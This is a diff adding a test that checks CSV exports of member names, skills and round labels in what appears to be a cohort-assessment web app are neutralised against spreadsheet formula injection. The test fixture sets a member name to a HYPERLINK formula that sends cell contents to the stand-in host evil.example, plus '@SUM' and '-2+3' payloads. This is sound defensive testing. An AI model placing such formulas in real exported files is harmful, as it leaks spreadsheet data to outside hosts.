@@ -401,3 +401,26 @@ def test_assessment_links_show_only_while_there_is_something_to_assess(cast, cli
     open_round(cast.cohort, label="Midpoint", peers=True)
     assert links() == (True, True)
     assert member.get(peer).status_code == 200
+
+
+def test_the_csv_files_neutralise_formula_text_in_names_skills_and_rounds(
+    cast, client_for, url, started
+):
+    start, mid = started
+    cast.member.name = '=HYPERLINK("http://evil.example/?"&A1,"open")'
+    cast.member.save()
+    skill = cast.network.skills.get(slug="facilitation")
+    skill.name = "@SUM(A1:A9)"
+    skill.save()
+    mid.label = "-2+3"
+    mid.save()
+    client = client_for(cast.host)
+    gap = client.get(url("gap_map_csv")).content.decode()
+    growth = client.get(url("growth_csv")).content.decode()
+    mine = client.get(url("member_csv", cast.member.pk)).content.decode()
+    assert '"\'=HYPERLINK(""http://evil.example/?""&A1,""open"")",\'@SUM(A1:A9),3' in gap
+    assert "'@SUM(A1:A9),3,2,'-2+3,2,1" in growth.splitlines()
+    assert "'@SUM(A1:A9),3,2,'-2+3,2," in mine.splitlines()
+    for text in (gap, growth, mine):
+        assert not any(line.startswith(("=", "@", "-", "+")) for line in text.splitlines())
+        assert ",=" not in text and ",@" not in text and ",-2+3" not in text
